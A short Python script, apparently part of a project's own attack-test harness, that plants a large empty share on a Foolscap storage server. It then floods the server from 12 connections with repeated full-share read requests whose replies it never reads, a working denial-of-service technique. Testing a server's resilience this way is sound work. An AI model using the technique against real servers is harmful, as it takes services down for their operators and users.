"""Clients over Foolscap that ask for all of a large share, again and again, and do not read it."""

from __future__ import annotations

import struct
import time

from misc.attack.foolscap import Peer, call, in_parallel, value
from misc.attack.target import Target, from_command_line
from pipegrid.core import base32

CONNECTIONS = 12
READS = 100
SHARE_BYTES = 60 << 20
INDEX = b"r" * 16


def attack(target: Target) -> None:
    """Store a share, then ask."""
    text = base32.encode(INDEX)
    share = target.directory / "storage" / "shares" / text[:2] / text / "0"
    share.parent.mkdir(parents=True)
    with share.open("wb") as file:  # as the server would, but of nothing, and at once
        file.write(struct.pack(">LLL", 1, SHARE_BYTES, 0))
        file.truncate(12 + SHARE_BYTES)
    in_parallel(target, CONNECTIONS, ask)


def ask(target: Target) -> None:
    """Ask for all of it, many times, and read nothing."""
    peer = Peer(target).name()
    with peer.socket as connection:
        connection.sendall(call(2, peer.storage, b"get_buckets", value(INDEX)))
        connection.recv(65536)
        reader = 2  # the second object of ours that it gave
        for request in range(3, 3 + READS):
            connection.sendall(call(request, reader, b"read", value(0), value(SHARE_BYTES)))
        time.sleep(max(0.0, target.left_s))


if __name__ == "__main__":
    attack(from_command_line(__doc__))
